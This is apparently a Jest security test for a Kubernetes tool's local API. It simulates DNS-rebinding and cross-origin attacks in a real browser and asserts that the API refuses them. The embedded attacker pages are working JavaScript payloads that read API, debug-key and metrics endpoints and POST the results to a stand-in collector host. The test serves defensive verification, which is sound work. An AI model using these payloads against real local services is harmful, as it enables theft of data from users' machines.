/**
 * A web page against a forwarded port, in a real browser (Debian's package "chromium"). Its name first leads to its own server and
 * then, once the page is open, to the port on loopback that `kubectl port-forward` serves: DNS rebinding. For the browser the API
 * then is of the page's own origin, so that nothing but the API itself protects it.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { connect, createServer as createTcpServer } from 'node:net';
import type { AddressInfo, Server as TcpServer, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { browse, hasBrowser } from '../support/browser.js';
import { eventually } from '../support/controller.js';
import { createWorld } from './world.js';
import type { World } from './world.js';

const describeWithBrowser = hasBrowser ? describe : describe.skip;

/** What a page could read of one address. */
interface Loot {
  readonly path: string;
  readonly status?: number;
  readonly body?: string;
  readonly error?: string;
}

/** Waits until its name leads elsewhere, then reads what it can, and tells its owner. */
const page = (collector: string, paths: readonly string[]): string => `<!doctype html><script>
const read = async (path) => {
  try {
    const response = await fetch(path, { cache: 'no-store' });
    return { path, status: response.status, body: await response.text() };
  } catch (error) {
    return { path, error: String(error) };
  }
};
const heard = (path) => new Promise((resolve) => {
  const events = new EventSource(path);
  const tell = (status, body) => { events.close(); resolve({ path: 'EventSource ' + path, status, body }); };
  events.addEventListener('summary', ({ data }) => tell(200, data));
  events.onerror = () => tell(0, '');
});
(async () => {
  for (;;) {
    const { status, error } = await read('/whose');
    if (error === undefined && status !== 200) break;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  const loot = await Promise.all(${JSON.stringify(paths)}.map(read));
  loot.push(await heard('/api/v1/stream'));
  await fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
})();
</script>`;

/** A page of another origin that asks for the port by its own name. */
const crossOriginPage = (collector: string, target: string): string => `<!doctype html><script>
(async () => {
  const loot = [];
  for (const mode of ['cors', 'no-cors']) {
    try {
      const response = await fetch(${JSON.stringify(target)}, { mode });
      loot.push({ path: mode, status: response.status, body: await response.text() });
    } catch (error) {
      loot.push({ path: mode, error: String(error) });
    }
  }
  await fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
})();
</script>`;

const portOf = (server: Server | TcpServer): number => (server.address() as AddressInfo).port;

async function listening<T extends Server | TcpServer>(server: T): Promise<T> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}

describeWithBrowser('a page in a browser', () => {
  let world: World;
  let folder: string;
  let collector: Server;
  let attacker: Server;
  /** The port that the names lead to: of the attacker first, of the API later. */
  let door: TcpServer;
  let leadsTo: number;
  let html = '';
  let loot: readonly Loot[] | undefined;
  let asked = 0;
  const sockets = new Set<Socket>();

  beforeAll(async () => {
    world = await createWorld();
    folder = mkdtempSync(join(tmpdir(), 'datapath-browser-'));
    collector = await listening(
      createServer((request, response) => {
        let text = '';
        request.setEncoding('utf8');
        request.on('data', (chunk: string) => (text += chunk));
        request.on('end', () => {
          loot = JSON.parse(text) as Loot[];
          response.end();
        });
      }),
    );
    attacker = await listening(
      createServer((request, response) => {
        if (request.url === '/whose') asked++;
        // Each request is a connection of its own, so that the next follows the name anew.
        response.writeHead(200, { 'content-type': 'text/html', connection: 'close' }).end(html);
      }),
    );
    door = await listening(
      createTcpServer((socket) => {
        const upstream = connect(leadsTo, '127.0.0.1');
        for (const each of [socket, upstream]) {
          sockets.add(each);
          each.on('error', () => each.destroy());
          each.on('close', () => sockets.delete(each));
        }
        socket.pipe(upstream).pipe(socket);
      }),
    );
  });

  afterAll(async () => {
    for (const socket of sockets) socket.destroy();
    for (const server of [collector, attacker, door]) server?.close();
    await world?.controller.kill('SIGTERM');
    if (folder !== undefined) rmSync(folder, { recursive: true, force: true });
  });

  /** Opens a page by this name, lets the name lead to the API once the page runs, and gives what the page read. */
  async function lootOf(host: string, source: string, rebinds: boolean): Promise<readonly Loot[]> {
    html = source;
    loot = undefined;
    asked = 0;
    leadsTo = portOf(attacker);
    const profile = mkdtempSync(join(folder, 'profile-'));
    const browser = browse(`http://${host}:${String(portOf(rebinds ? door : attacker))}/`, profile);
    const ended = new Promise((resolve) => browser.once('exit', resolve));
    try {
      if (rebinds) await eventually('the page to run', () => Promise.resolve(asked > 0));
      leadsTo = Number(new URL(world.controller.url).port);
      return await eventually('what the page read', () => Promise.resolve(loot));
    } finally {
      if (browser.pid !== undefined) process.kill(-browser.pid, 'SIGKILL');
      await ended;
    }
  }

  const collectorUrl = (): string => `http://collector.example:${String(portOf(collector))}/`;
  const paths = (): string[] => [
    ...['results', 'pod-health', 'time-to-start', 'runs', 'results?format=csv'].map((call) => `/api/v1/${call}`),
    `/api/v1/results/${world.uid}`,
    `/debug/operator/keys/${world.namespaces[0]}/web-0000`,
    '/metrics',
  ];

  it('whose name was bound to the forwarded port reads nothing of the API', async () => {
    const read = await lootOf('rebound.example', page(collectorUrl(), paths()), true);
    expect(read).toHaveLength(paths().length + 1);
    for (const { path, status } of read) {
      const refused = path.startsWith('EventSource') ? 0 : path.startsWith('/debug') ? 403 : 401;
      expect([path, status]).toEqual([path, refused]);
    }
    for (const { body } of read) expect(body).not.toContain('web-0');
  });

  it('of localhost itself reads it: what protects is the name alone', async () => {
    const read = await lootOf('localhost', page(collectorUrl(), paths()), true);
    for (const { path, status } of read) if (path.includes('/api/')) expect([path, status]).toEqual([path, 200]);
    expect(JSON.stringify(read)).toContain('web-0000');
  });

  it('of another origin reads nothing by asking for localhost', async () => {
    const target = `http://localhost:${new URL(world.controller.url).port}/api/v1/results`;
    const read = await lootOf('elsewhere.example', crossOriginPage(collectorUrl(), target), false);
    expect(read.map(({ path, status, body }) => [path, status ?? 0, body ?? ''])).toEqual([
      ['cors', 0, ''],
      ['no-cors', 0, ''],
    ]);
  });
});
